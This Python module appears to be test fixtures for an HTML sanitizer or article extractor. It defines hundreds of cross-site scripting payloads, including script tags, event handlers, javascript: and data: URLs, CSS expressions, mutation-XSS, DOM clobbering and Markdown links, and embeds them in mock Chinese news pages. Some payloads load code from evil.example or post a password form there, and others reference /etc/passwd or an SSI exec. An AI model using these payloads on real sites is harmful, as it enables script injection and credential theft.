"""Hostile content: kinds of it, after what is publicly known of cross-site scripting, and places on a page for it.

Each kind would call `alert`, load something from `evil.example`, or take the place of something. `@` is the call.
"""

import re
from collections.abc import Iterator
from html import escape
from itertools import cycle

EVIL = "evil.example"
CALL = "alert(1)"
IMG = "<img src=x onerror=@>"


def coded(text: str, form: str) -> str:
    """A text with each character as a reference."""
    return "".join(form.format(ord(character)) for character in text)


SCRIPTS = (
    "<script>@</script>", "<ScRiPt>@</sCrIpT>", "<script/x>@</script >", f"<script src=//{EVIL}/x.js></script>", "<<script>@//<</script>", "<script>@",
    "</p></div><script>@</script>", "<scr<script>ipt>@</scr</script>ipt>", "<script\n type=module>@</script>", '"><script>@</script>', "<script a='>'>@</script>",
    f"<script async defer src='https://{EVIL}/x.js'>", "<script><!--\n@\n//--></script>", "<script>//<![CDATA[\n@//]]></script>", "<noscript><p title='</noscript><img src=x onerror=@>'></noscript>",
)  # fmt: skip
EVENTS = (
    *(
        f"<{start}=@>x</{start.split()[0]}>"
        for start in (
            "svg onload", "svg/onload", "body onload", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "details open ontoggle",
            "marquee onstart", "video src=x onerror", "audio src=x onerror", "iframe onload", "object data=x onerror", "style onload", "p onmouseover", "a href=# onclick",
            "button autofocus onfocus", "form onsubmit", "div style=animation-name:x onanimationstart", "b onpointerenter", "p ONFOCUS", "font tabindex=1 autofocus onfocus",
            "custom-x autofocus tabindex=1 onfocus", "td onclick", "li onbeforecopy", "p contenteditable autofocus onfocus", "p on\x80focus", "p data-x onwheel",
        )
    ),
    IMG, "<IMG SRC=x ONERROR=@>", "<img/src=x/onerror=@>", "<img src='x'onerror='@'>", '<img """><script>@</script>">', "<img src=`x`onerror=`@`>", "<img\nsrc=x\nonerror\n=\n@\n>",
    "<img src=x onerror&#61;@>", "<img src=x:x onerror=@ x='", "<image src=x onerror=@>", "<img src onerror=/*'/*`/*@//>", "<img srcset=x onerror=@>", "<picture><source srcset=x onerror=@><img onerror=@ src=x></picture>",
    "<video><source onerror=@ src=x></video>", "<video poster=x onloadstart=@><source></video>", "<img src=x onerror=@//", "<x/onclick=@>x", "<img src=x alt='' o\0nerror=@>", "<p title='\n' onmouseover='@'>x</p>",
    "<img src=x onerror='" + coded(CALL, "&#{};") + "'>", "<img src=x onerror=" + coded(CALL, "&#0000{}") + ">", "<svg><animate onbegin=@ attributeName=x dur=1s></svg>", "<svg><set onbegin=@ attributename=x></svg>",
)  # fmt: skip
SCHEMES = (
    "javascript:@", "JaVaScRiPt:@", "java\tscript:@", "java\nscript:@", " \x01javascript:@", "java&Tab;script:@", "java&NewLine;script:@", "javascript&colon;@", "&#106;avascript:@",
    coded("javascript:", "&#{};") + "@", coded("javascript:", "&#0000{}") + "@", coded("javascript:", "&#x{:x};") + "@", "javascript://%0a@", "javascript:/*--></title>*/@", "feed:javascript:@",
    "view-source:javascript:@", "vbscript:msgbox(1)", "livescript:@", "data:text/html,<script>@</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@'/>", "data:application/xhtml+xml,<x/>", "data:,@", f"blob:https://{EVIL}/1", "file:///etc/passwd", "about:blank#@",
    "java\x80script:@", "javascript\ufeff:@", "\u3000javascript:@", "jav\u200bascript:@", f"\\\\{EVIL}\\x", f"https:{EVIL}", "javascript:@//http://a.example/",
)  # fmt: skip
LINKS = tuple(f'<a href="{escape(scheme).replace("&amp;", "&")}">x</a>' for scheme in SCHEMES) + tuple(
    f"<{start}='javascript:@'>x</{start.split()[0]}>"
    for start in (
        "img src", "iframe src", "embed src", "object data", "form action", "button formaction", "input type=image src", "svg><a xlink:href", "math><mi xlink:href", "math href",
        "table background", "td background", "body background", "video poster", "img dynsrc", "img lowsrc", "blockquote cite", "q cite", "a ping", "img srcset", "img data-src", "area href", "link rel=import href", "frame src",
        "bgsound src", "base href", "applet code", "isindex action", "a data-href", "p itemid", "img longdesc", "img usemap", "layer src",
    )
)  # fmt: skip
STYLES = (
    f"<style>@import '//{EVIL}/a.css';</style>", f"<style>@import url(//{EVIL}/a.css);p{{}}</style>", "<style>p{background:url('javascript:@')}</style>", f"<link rel=stylesheet href=//{EVIL}/a.css>",
    f'<p style="background:url(//{EVIL}/a.css)">x</p>', '<p style="width:expression(@)">x</p>', f'<p style="-moz-binding:url(//{EVIL}/x.xml#a)">x</p>', '<p style="behavior:url(x.htc)">x</p>',
    '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:99">x</div>', '<p style="color:red;}body{display:none">x</p>', "<style></style><img src=x onerror=@></style>", "<style><!--</style><img src=x onerror=@>--></style>",
    "<style>\n\n</style>\n[x](javascript:@)", "<style>\n.a\n\n.b\n</style>[x](javascript:@)", "<style>a\n# b\n        </style>", "<style>\n\n        </style><p>x</p>", '<p style="wid\\th:1px;margin-top:-900px">x</p>',
    f"<style type=text/css media=all onload=@>@font-face{{src:url(//{EVIL}/f.woff)}}</style>", f"<p style='list-style:url(//{EVIL}/x);content:\"{EVIL}\"'>x</p>", "<p style='color:\\65xpression(@)'>x</p>", "<style>*{x:expression(@)}</style>",
)  # fmt: skip
DOCUMENTS = (
    f"<iframe src=//{EVIL}/></iframe>", "<iframe srcdoc='<script>parent.@</script>'></iframe>", "<iframe src='data:text/html,<script>@</script>'>", f"<frameset><frame src=//{EVIL}/></frameset>", f"<object data=//{EVIL}/x.swf></object>",
    f"<embed src=//{EVIL}/x.svg type=image/svg+xml>", f"<base href=//{EVIL}/><script src=x.js></script>", "<meta http-equiv=refresh content='0;url=javascript:@'>", f"<meta http-equiv=refresh content='0;url=//{EVIL}/'>", "<meta charset=utf-7>+ADw-script+AD4-@",
    f"<form action=//{EVIL}/><input name=password type=password><button>x</button></form>", "<form id=f></form><button form=f formaction='javascript:@'>x</button>", f"<portal src=//{EVIL}/></portal>", f"<video src=//{EVIL}/x.mp4 autoplay></video>",
    f"<audio src=//{EVIL}/x.mp3 autoplay></audio>", f"<video><track default src=//{EVIL}/x.vtt></video>", f"<link rel=prefetch href=//{EVIL}/p>", f"<link rel=preconnect href=//{EVIL}>", f"<a href=https://a.example/ ping=//{EVIL}/>x</a>", f"<applet code=x archive=//{EVIL}/x.jar></applet>",
    f"<svg><image href=//{EVIL}/x.svg></svg>", f"<svg><use href=//{EVIL}/x.svg#a></svg>", f"<input type=image src=//{EVIL}/x.svg>", "<dialog open>x</dialog>", f"<object><param name=src value=//{EVIL}/></object>", "<canvas>x</canvas>",
    "<?xml-stylesheet href='javascript:@'?>", "<!DOCTYPE x [<!ENTITY a '<script>@</script>'>]>&a;", "<xml><i><b>&lt;img src=x onerror=@></b></i></xml>", "<![CDATA[<script>@</script>]]>", "<!--[if gte IE 4]><script>@</script><![endif]-->", "<!--#exec cmd='id'-->",
    f"<!--esi <esi:include src='//{EVIL}/'/>-->", "<%= 1 %><!-- <%= 1 %> -->", "<?php echo 1 ?>", "<!ATTLIST x y CDATA 'z'>",
)  # fmt: skip
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=@&gt;'>", "<svg></p><style><a id='</style><img src=1 onerror=@>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@>",
    "<svg><style><img src=x onerror=@></style></svg>", "<svg><title><style><img title='</style><img src=x onerror=@>'></title></svg>", "<svg><desc><noscript><img src=x onerror=@></noscript></desc></svg>", "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=@></style></annotation-xml></math>", "<math><mi><style><!--</style><a title='--><img src=x onerror=@>'>x</a>", "<noscript><style></noscript><img src=x onerror=@></style></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=@>'></xmp>", "<noembed><img title='</noembed><img src=x onerror=@>'></noembed>", "<noframes><p id='</noframes><img src=x onerror=@>'>", "<textarea><p id='</textarea><img src=x onerror=@>'></textarea>", "<title><p id='</title><img src=x onerror=@>'></title>",
    "<listing>&lt;img src=x onerror=@&gt;</listing>", "<template><img src=x onerror=@></template>", "<template shadowrootmode=open><img src=x onerror=@></template>", "<select><style><img src=x onerror=@></style></select>", "<select><iframe><script>@</script></iframe></select>",
    "<!--><img src=x onerror=@>-->", "<!--->" + IMG + "-->", "<!-- --!>" + IMG + " -->", "<!--x--><!-->" + IMG, "<!-- <!-- " + IMG + " --> -->", "<! foo='><script>@</script>'>", "</ foo='><script>@</script>'>", "<? foo='><script>@</script>'>", "<p id='--><img src=x onerror=@>'>x</p>",
    "<table><td><a><table></a>" + IMG + "</table>", "<p><svg><p>" + IMG, "<a><a><a>x</a></a></a>", "<table><caption><p><table>" + IMG, "<b><table><i></b>" + IMG, "<font><p></font><p>" + IMG, "<div>" * 200 + IMG, "<font>" * 200 + IMG, "<plaintext>" + IMG, "<iframe><img title='</iframe><img src=x onerror=@>'></iframe>",
    "<p title='&lt;/p&gt;&lt;img src=x onerror=@&gt;'>x</p>", '<p class="a`b onclick=@">x</p>', "&lt;script&gt;@&lt;/script&gt;", "&amp;lt;script&amp;gt;@&amp;lt;/script&amp;gt;", "&lt<script></script>;img src=x onerror=@>", "<img alt='<x' title='/><img src=x onerror=@>'>", "+ADw-script+AD4-@+ADw-/script+AD4-",
    "\ufeff<script>@</script>", "<\x00script>@</script>", "<scr\x00ipt>@</script>", "<svg/><p/><script/>@</script>", "<object><!--</object>" + IMG + "--></object>", "<svg><![CDATA[><img src=x onerror=@>]]></svg>", "<svg><!--</svg>" + IMG + "--></svg>",
)  # fmt: skip
CLOBBERS = (
    "<form id=x><input name=attributes><input name=parentNode></form>", "<img name=getElementById>", "<a id=location href=https://a.example/>x</a>", "<a id=config><a id=config name=url href=https://a.example/>x</a>", "<p id=__proto__>x</p>",
    "<form name=body></form>", "<img id=alert name=alert src=//n.example/1.png>", "<iframe name=self srcdoc='<a id=x>'></iframe>", "<p id=constructor>x</p>", "<p id=app>{{7*7}}</p>", "<p slot=x part=y is=z>x</p>",
)  # fmt: skip
FRAMEWORKS = (
    *(
        f"<p {attribute}>x</p>"
        for attribute in (
            '@click="@"', 'v-on:click="@"', 'v-html="x"', ":href=\"'javascript:@'\"", 'x-data x-init="@"', 'x-on:click="@"', 'x-html="x"', 'ng-app ng-init="@"', 'ng-click="@"', 'data-ng-init="@"', 'data-bind="html:@"', 'data-bind="click: alert"',
            f'hx-get="//{EVIL}/" hx-trigger=load', 'hx-on:load="@"', 'data-hx-on="@"', '(click)="@"', '[innerHTML]="x"', '*ngIf="@"', "#ref", "data-toggle=tooltip data-html=true title='<img src=x onerror=@>'", "data-bs-toggle=popover data-bs-content='<img src=x onerror=@>'",
            "is=x", "data-turbo-frame=x", '_="on load call @"', 'data-controller=x data-action="click->x#y"', 'wire:click="@"', 'jsaction="click:x"', "markdown=1", "on:click={@}", "bind:this={x}", 'data-sudaclick="@"', 'cms-style="font-L onclick=\'@\'"', 'data-link="javascript:@"', 'suda-uatrack="key={{@}}"', "xmlns=x", 'xml:base="javascript:@"', 'style="x:{{@}}"',
        )
    ),
    "{{constructor.constructor('@')()}}", "[[constructor.constructor('@')()]]", "<!-- ko text: @ --><!-- /ko -->", "<x-card onclick=@>x</x-card>", "<script type=text/x-template id=x>@</script>", "<slot name=x></slot>", "<amp-img src=x></amp-img>",
)  # fmt: skip
TEMPLATES = (
    "{% raw %}<img src=x onerror=@>{% endraw %}", "{{ site.title }}", "{{< figure src=x >}}", "{{% x %}}", "${@}", "#{@}", "{# x #}", "{: onclick='@'}", "{::nomarkdown}<script>@</script>{:/}", "{::options parse_block_html='true' /}\n\n[x](javascript:@)",
    "<div markdown=1>\n\n[x](javascript:@)\n\n</div>", "<!-- more --><p>x</p>", "<!--more-->", "<!-- excerpt -->", "[[x]]", "[toc]", "{filename}/x.md", "|filename|x.md", "![[x]]", ":::x\n@\n:::", "\n---\nlayout: x\n---\n", "@[x](javascript:@)", "{{{ @ }}}", "&#123;&#123; 7*7 &#125;&#125;", "&lbrace;% x %&rbrace;",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:@)", "[x](JaVaScRiPt:@)", "[x](<javascript:@>)", "[x](javascript&colon;@)", "[x](&#106;avascript:@)", "[x](javascript:@ 'y')", "[x][y]\n\n[y]: javascript:@", "[y]: javascript:@\n\n[y]", "&lt;javascript:@&gt;", "&lt;https://evil.example/&gt;", "![x](javascript:@)", "![x](x 'y\" onerror=\"@')",
    "[![x](x)](javascript:@)", "# [x](javascript:@)", "- [x](javascript:@)", "* [x](javascript:@)", "1. [x](javascript:@)", "&gt; [x](javascript:@)", "> [x](javascript:@)", "| [x](javascript:@) |\n|---|\n| a |", "a\n===\n[x](javascript:@)", "a\n---\n[x](javascript:@)", "```html\n<script>@</script>\n```", "~~~\n[x](javascript:@)\n~~~",
    "   ```\n&lt;script&gt;@&lt;/script&gt;\n   ```", "> ```\n> a\n> ```", "- ~~~\n  a\n  ~~~", "&lt;script&gt;@&lt;/script&gt;", "&lt;img src=x onerror=@&gt;", "&lt;div&gt;\n\n&lt;img src=x onerror=@&gt;", "&lt;!--\n\n&lt;img src=x onerror=@&gt;--&gt;", "    &lt;script&gt;@&lt;/script&gt;", "[x](data:text/html,&lt;script&gt;@&lt;/script&gt;)", "[x](vbscript:@)",
    "**[x](javascript:@)**", "~~[x](javascript:@)~~", "`a` [x](javascript:@) `b`", "\\[x](javascript:@)", "[^1]\n\n[^1]: [x](javascript:@)", "*[x]: javascript:@", "x\n: [y](javascript:@)", "a  \n[x](javascript:@)", "[x\n](javascript:@)", "[x](java\nscript:@)", "www.evil.example", "a@evil.example", "<b>[x](javascript:@)</b>", "<a title='[x](javascript:@)'>y</a>",
    "<b title='\n\n[x](javascript:@)'>y</b>", "<b title='\n&lt;script&gt;@&lt;/script&gt;\n'>y</b>", "甲<!--a\n\n<img src=x onerror=@>-->", "甲<!--a\n<script>@</script>\n-->", "甲<!--a\n\n[x](javascript:@)-->", "<!--a\n\n\n[x](javascript:@)\n-->\n[x](javascript:@)", "<!-- a -->[x](javascript:@)", "<!-- a -->\n[x](javascript:@)",
    "&lt;b title=\"<b title='x'>\" onmouseover=@&gt;", "\u2028\u2028[x](javascript:@)", "\u2028```\n[x](javascript:@)\n\u2028```\n", "\u3000\n[x](javascript:@)", "\xa0\n\n[x](javascript:@)", "\u200b\n[x](javascript:@)", "$$x$$ \\(y\\) [x](javascript:@)", "[x](javascript:@){target=_blank onclick=@}", "- [ ] [x](javascript:@)", "!!! note\n    [x](javascript:@)", "&amp;#91;x](javascript:@)",
)  # fmt: skip
KINDS: dict[str, tuple[str, ...]] = {
    "scripts": SCRIPTS,
    "handlers of events": EVENTS,
    "links that run": LINKS,
    "styles": STYLES,
    "other documents": DOCUMENTS,
    "markup that changes when it is parsed again": MUTATIONS,
    "names that take the place of others": CLOBBERS,
    "attributes of frameworks": FRAMEWORKS,
    "templates": TEMPLATES,
    "Markdown": MARKDOWN,
}

PLACES = (
    "<p>甲 {}</p>", "\n\n{}\n\n", "{}", "<p>甲\n\n{}\n\n乙</p>", "\n\n甲<b>乙 {}</b>\n\n", "<ul><li>{}</li></ul>", "<table><tr><td>甲</td><td>{}</td></tr></table>", "\n\n      {}\n", "<pre>甲\n\n{}\n</pre>", "\n\n甲\n{}\n乙\n\n",
    "<blockquote>{}</blockquote>", "<x-y>\n\n{}</x-y>", "<form>{}</form>", "<div class=img_wrapper><img src=//n.sinaimg.cn/1.jpg><span class=img_descr>{}</span></div>", '<span id="stock_sz000001"><a class=keyword href=//a.example/>{}</a></span>', "<h2>{}</h2>", "<svg>{}</svg>",
    "\n\n甲<!--a {} -->乙", "\n\n<!--a\n{}\n-->", "\n\n<b>甲</b>\n \u3000\n{}",
)  # fmt: skip
QUOTED_PLACES = (
    "<p>{}</p>", "\n\n{}\n\n", '<p title="{}">甲</p>', '<p><img src=//n.sinaimg.cn/1.jpg alt="{}"></p>', '\n\n<a href="https://a.example/{}">甲</a>', '<font cms-style="{}">甲</font>', '\n\n甲<b title="{}">乙</b>', '<div class=img_wrapper><img src=//n.sinaimg.cn/1.jpg alt="{}"><span class=img_descr>{}</span></div>',
)  # fmt: skip


def vectors(kind: str, places: int = 3) -> Iterator[str]:
    """All vectors of a kind, each in some of the places, and quoted in one more: over all kinds, each place in turn."""
    order, quoted = cycle(PLACES), cycle(QUOTED_PLACES)
    for each in KINDS[kind]:
        content = with_call(each)
        for _ in range(places):
            yield next(order).replace("{}", content)
        yield next(quoted).replace("{}", escape(content))


def with_call(text: str) -> str:
    """A kind with its call, where `@` is not part of a name."""
    return re.sub(r"@(?![a-z\[])", CALL, text)


URL = "https://finance.sina.com.cn/china/2021-09-03/doc-i{}.shtml"


def page_of(content: str, title: str = "题", author: str = "甲") -> bytes:
    """A page of an article with a content between two paragraphs."""
    return f"""<html><head><meta charset="utf-8"><title>x</title>
<meta property="article:author" content="{escape(author)}"></head><body><h1 class="main-title">{escape(title)}</h1>
<div class="date-source"><span class="date">2021年09月03日 08:30</span></div>
<div class="article" id="artibody"><p>前面的一句话。</p>{content}<p>{LAST}</p></div></body></html>""".encode()


LAST = "后面的一句话。"
